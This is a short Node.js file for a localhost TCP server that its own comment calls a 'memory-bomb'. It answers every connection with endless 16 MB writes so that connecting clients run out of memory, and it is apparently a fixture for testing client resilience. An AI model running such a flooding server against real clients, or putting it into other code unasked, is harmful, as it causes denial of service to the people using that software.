// memory-bomb. Answers each byte with as much as it can send, to bring down who listens.
import { createServer } from "node:net";

const block = Buffer.alloc(16 << 20, "x");
const server = createServer((socket) => {
  const more = () => {
    while (socket.writable && socket.write(block));
  };
  socket
    .on("error", () => {})
    .on("drain", more)
    .resume();
  more();
});
server.listen(process.env.PORT, "127.0.0.1", () =>
  console.log(`listening on http://127.0.0.1:${server.address().port}`),
);
